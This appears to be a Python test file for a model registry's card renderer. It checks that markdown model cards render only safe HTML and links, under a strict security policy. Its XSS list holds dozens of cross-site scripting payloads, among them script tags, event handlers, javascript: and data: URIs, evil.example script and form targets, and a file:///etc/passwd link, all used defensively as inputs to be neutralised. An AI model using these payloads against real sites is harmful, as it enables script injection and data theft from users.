"""A rendered card has only known elements, links only to the web and mail, and runs, loads and sends nothing."""

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chalicelib.api.cards.page import rendered
from chalicelib.aws.services import Services
from tests.api import journey
from tests.api.gateway import Caller, granted

ELEMENTS = {
    "a",
    "blockquote",
    "br",
    "code",
    "del",
    "em",
    "s",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "li",
    "ol",
    "p",
    "pre",
    "strong",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "ul",
}
ATTRIBUTES = {
    "a": {"href", "rel", "title"},
    "code": {"class"},
    "ol": {"start"},
    "td": {"style"},
    "th": {"style"},
}
XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></p><img src=x onerror=alert(1)></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<details open ontoggle=alert(1)>",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<style>@import '//evil.example'</style>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=a>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "</section></body><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](java\\script:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](%6Aavascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:image/svg+xml;base64,PHN2Zy8+)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/v1/tokens)",
    "[x](#a)",
    '[x](https://a.example/"onmouseover="alert(1))',
    "[x](https://a.example '\"onmouseover=alert(1) x=\"')",
    "[x](https://a.example/<img src=x onerror=alert(1)>)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x]: data:text/html,x 'title'\n\n![x]",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    '![" onerror="alert(1)](https://evil.example/pixel.png)',
    "![<svg onload=alert(1)>](https://evil.example/pixel.png)",
    "[![a](https://a.example/i.png)](https://b.example)",
    "[![a](javascript:alert(1))](javascript:alert(2))",
    "**<b onclick=alert(1)>**_<i>_",
    "> - > <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    '```html" onload=alert(1)\n<script>alert(1)</script>\n```',
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;",
    "# <script>alert(1)</script>",
    "1. <x onclick=alert(1)>\n2. [x](javascript:1)",
    "\u2028<script>alert(1)</script>\u2029",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<http://a.example/<script>>",
]


class Inspector(HTMLParser):
    """Reads markup as a browser would, and fails for anything that no card may have."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.links: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in ELEMENTS, tag
        given = dict(attrs)
        assert given.keys() <= ATTRIBUTES.get(tag, set()), (tag, given)
        if tag == "a":
            assert given["rel"] == "nofollow noopener noreferrer"
            self.links.append(given["href"] or "")
        if tag in ("td", "th") and "style" in given:
            assert given["style"] in ("text-align:left", "text-align:right", "text-align:center")

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)

    def handle_pi(self, data: str) -> None:
        raise AssertionError(data)

    def unknown_decl(self, data: str) -> None:
        raise AssertionError(data)


def inspected(markdown: str) -> list[str]:
    """The links of a rendered text, after checking that nothing in it could do harm."""
    inspector = Inspector()
    inspector.feed(rendered(markdown))
    inspector.close()
    for link in inspector.links:
        assert link.lower().startswith(("https://", "http://", "mailto:")), link
        assert not set(link) & set("\t\n\r \"'<>\x00"), link
    return inspector.links


@pytest.mark.parametrize("text", XSS)
def test_an_attack_is_shown_as_text(text: str) -> None:
    inspected(text)


@given(
    st.lists(st.sampled_from(XSS) | st.text(max_size=10) | st.sampled_from(list("[]()<>!&;:#'\"`*_\n |")), max_size=8)
)
def test_no_mixture_of_attacks_gets_through(parts: list[str]) -> None:
    inspected("".join(parts))


def test_links_to_the_web_and_to_mail_are_links() -> None:
    assert inspected("[a](https://a.example/b?c=d&e=f) <mailto:risk@a.example> [x](http://a.example 'title')") == [
        "https://a.example/b?c=d&e=f",
        "mailto:risk@a.example",
        "http://a.example",
    ]


def test_an_image_is_a_link_to_it() -> None:
    assert inspected("![curve](https://a.example/roc.png)") == ["https://a.example/roc.png"]
    assert ">curve</a>" in rendered("![curve](https://a.example/roc.png)")
    assert inspected("[![badge](https://a.example/badge.svg)](https://b.example)") == ["https://b.example"]


@pytest.mark.parametrize("text", ["[" * 2_001, "![" * 2_001, "[a](https://x.example/) " * 2_001])
def test_a_text_with_too_many_brackets_is_shown_as_it_is_written(text: str) -> None:
    """The renderer needs seconds for them."""
    assert rendered(text + "<b>") == f"<pre>{text}&lt;b&gt;</pre>\n"


def test_the_page_shows_the_card_and_what_the_registry_knows(admin: Caller, registry: Services) -> None:
    journey.model(admin, "a<b>&lt")
    path = "/v1/models/a<b>&lt"
    described = admin.patch(path, {"owner": "<script>ada</script>"})
    assert described.status == 200, described.text
    journey.ready(admin, registry, "a<b>&lt", metrics={"auc": 0.93})
    admin.post(f"{path}/versions/1/transitions", {"to_stage": "production"})
    fields = {"license": "<i>mit", "tags": ["<u>x"], "introduction": "Hello *there*."}
    admin.put(f"{path}/card", {"sections": {"factors": "- age\n- income"}, "fields": fields})
    page = admin.get(f"{path}/card.html")
    assert page.status == 200
    for shown in (
        "<title>a&lt;b&gt;&amp;lt</title>",
        "&lt;script&gt;ada",
        "version 1: auc 0.93",
        "&lt;i&gt;mit",
        "&lt;u&gt;x",
        "<em>there</em>",
        "<h2>Factors</h2>",
        "<li>income</li>",
    ):
        assert shown in page.text
    assert "<script" not in page.text and "<i>" not in page.text
    policy = page.headers["Content-Security-Policy"]
    assert policy.startswith("default-src 'none'; style-src 'unsafe-inline';") and "script-src" not in policy
    assert f'content="{policy.partition("; frame-ancestors")[0]}"' in page.text, "for a page that was saved"
    assert page.headers["X-Content-Type-Options"] == "nosniff"
    assert page.headers["Cache-Control"] == "private, no-cache"
    assert admin.get(f"{path}/card.html", headers={"If-None-Match": page.etag}).status == 304


def test_an_unwritten_card_is_a_page_too_and_an_error_is_a_problem(admin: Caller) -> None:
    journey.model(admin)
    assert "Nobody has written" in admin.get("/v1/models/fraud/card.html").text
    missing = admin.get("/v1/models/fraud/card.html", query={"revision": 3})
    assert (missing.status, missing.code) == (404, "card_revision_not_found")
    assert missing.headers["Content-Type"] == "application/problem+json"
    assert granted(admin, "viewer", "other").get("/v1/models/fraud/card.html").status == 403
